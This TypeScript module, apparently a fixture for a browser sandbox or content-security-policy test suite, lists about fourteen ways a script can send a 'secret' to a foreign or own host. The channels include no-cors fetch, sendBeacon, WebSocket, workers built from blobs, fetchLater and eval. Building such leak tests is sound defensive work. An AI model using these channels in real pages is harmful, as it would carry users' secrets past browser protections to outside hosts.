import type { Road } from './road.ts';

/** Roads by which a script itself asks for something, or lets other code ask. */
export const REQUEST_ROADS: Readonly<Record<string, Road>> = {
  fetch: ({ foreign, secret }) => fetch(foreign + secret, { mode: 'no-cors' }),
  'fetch of its own host': ({ own, secret }) => fetch(own + secret),
  'fetch kept alive': ({ foreign, secret }) => fetch(foreign + secret, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: ({ foreign, secret }) => {
    const request = new XMLHttpRequest();
    request.open('GET', foreign + secret);
    request.send();
  },
  beacon: ({ foreign, secret }) => navigator.sendBeacon(foreign + secret, 'x'),
  WebSocket: ({ socket, secret }) => new WebSocket(socket + secret),
  EventSource: ({ foreign, secret }) => new EventSource(foreign + secret),
  'dynamic import': ({ own, secret }) => import(own + secret),
  worker: ({ own, secret }) => new Worker(own + secret),
  'worker from a blob': ({ foreign, secret }) =>
    new Worker(
      URL.createObjectURL(new Blob([`fetch(${JSON.stringify(foreign + secret)}, {mode: 'no-cors'})`])),
    ),
  'shared worker': ({ own, secret }) => new SharedWorker(own + secret),
  'service worker': ({ own, secret }) => navigator.serviceWorker.register(own + secret),
  'fetch later': ({ foreign, secret }) => {
    (window as unknown as { fetchLater(to: string, how: object): void }).fetchLater(foreign + secret, {
      activateAfter: 0,
    });
  },
  'code as text': ({ foreign, secret }) => {
    return eval(`fetch(${JSON.stringify(foreign + secret)}, { mode: 'no-cors' })`) as unknown;
  },
};
